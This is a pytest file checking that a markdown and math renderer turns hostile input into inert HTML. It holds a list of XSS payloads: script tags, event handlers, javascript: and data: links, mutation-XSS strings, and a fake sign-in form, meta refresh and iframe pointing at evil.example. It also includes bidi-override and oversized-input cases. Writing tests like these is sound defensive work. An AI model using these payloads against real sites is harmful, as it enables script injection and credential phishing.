"""What models and people wrote can never run, call home, or reach outside its own block."""

import re
from html.parser import HTMLParser

import pytest

from frontend.rendering import mathml
from frontend.rendering.markdown import LONGEST, MOST_BRACKETS, plain, to_html

# Written down here on their own, so that loosening the product's list does not loosen the test.
TAGS = {
    "p", "ul", "ol", "li", "blockquote", "h3", "h4", "h5", "h6", "th", "td", "a", "br", "em", "strong", "s",
    "code", "span", "hr", "pre", "div", "table", "thead", "tbody", "tr",
}  # fmt: skip
CLASSES = {"word", "text", "number", "remark", "absent", "formula", "wide", "plain", "n", "mid"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert&#40;1&#41;)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://tracker.example/a.png "title")',
    '<a href="#" hx-get="/admin/" hx-trigger="load">x</a>',
    '<div hx-on:click="alert(1)" data-hx-post="/sign-out/">x</div>',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    '<style>body{background:url("https://evil.example")}</style>',
    '<p style="position:fixed;inset:0" class="banner" id="desk">covers the page</p>',
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\nprint(1)\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    r"$\text{<script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{position:fixed}{x} \class{banner}{y} \id{desk}{z}$$",
    r"\(\unicode{x}<img src=x onerror=alert(1)>\)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<https://e.example/\" onmouseover=\"alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[x](//evil.example/path) [y](/admin/) [z](?next=1)",
]  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data}")


def assert_inert(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in TAGS | mathml.TAGS, f"<{tag}> came through in {html}"
        for name, value in attributes.items():
            if name == "class":
                assert set((value or "").split()) <= CLASSES
            elif name == "href":
                assert re.match(r"https?://", value or ""), value
                assert attributes["rel"] == "noopener noreferrer nofollow"
                assert attributes["target"] == "_blank"
            elif tag in mathml.TAGS:
                assert name in mathml.ATTRIBUTES["math"], f"{name} on <{tag}>"
            else:
                allowed = {("a", "rel"), ("a", "target"), ("ol", "start")}
                allowed |= {("span", "data-alt"), ("span", "data-media")}
                assert (tag, name) in allowed or name == "dir"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("wrap", ["{}", "- {}", "> {}", "# {}", "**{}**", "a {} b\n\n{}"])
def test_hostile_text_comes_out_inert(payload: str, wrap: str) -> None:
    assert_inert(to_html(wrap.replace("{}", payload)))
    assert_inert(plain(payload))


def test_html_in_the_text_is_shown_as_text() -> None:
    assert Elements(to_html("<b>bold</b> & <script>x</script>")).text == "<b>bold</b> & <script>x</script>"


def test_a_picture_is_words_and_an_address_and_never_a_request() -> None:
    html = to_html("![a chart](https://tracker.example/a.png)")
    assert "<img" not in html
    assert Elements(html).text == "[a chart, https://tracker.example/a.png]"


def test_override_characters_are_shown_instead_of_obeyed() -> None:
    assert "U+202E" in to_html("pay \u202ebob\u202c")
    assert "\u202e" not in to_html("pay \u202ebob\u202c")
    code = to_html("```\nif a\u2066 b\n```")
    assert "U+2066" in code
    assert "\u2066" not in code
    assert "\u200f" in to_html("שלום\u200f!"), "marks that right-to-left writing needs stay"


NESTED = "".join("  " * depth + "- x\n" for depth in range(50))
BULKY = {
    "a megabyte of words": "word " * 200_000,
    "ten thousand rows": "| a | b |\n| - | - |\n" + "| 1 | 2 |\n" * 10_000,
    "fifty levels": NESTED,
    "quotes in quotes": ">" * 5_000 + " x",
    "brackets": "[" * LONGEST,
    "brackets, just few enough": "[" * MOST_BRACKETS,
    "pictures begun": "![a" * MOST_BRACKETS,
    "links begun": "[a](b" * MOST_BRACKETS,
    "emphasis begun": "**a_" * (LONGEST // 4),
    "formulas begun": r"\(" * (LONGEST // 2),
    "dollars": "$x$ " * (LONGEST // 4),
    "deep formula": "$" + "{" * 900 + "}" * 900 + "$",
    "list items": "- a\n" * (LONGEST // 4),
    "code blocks": "```js\nvar a = 1 // x\n```\n" * (LONGEST // 26),
    "a long string in code": '```python\n"' + '\\"' * 9_000,
}


@pytest.mark.parametrize("text", BULKY.values(), ids=BULKY.keys())
def test_the_bulkiest_text_is_shown_and_inert(text: str) -> None:
    html = to_html(text)
    assert_inert(html)
    assert html
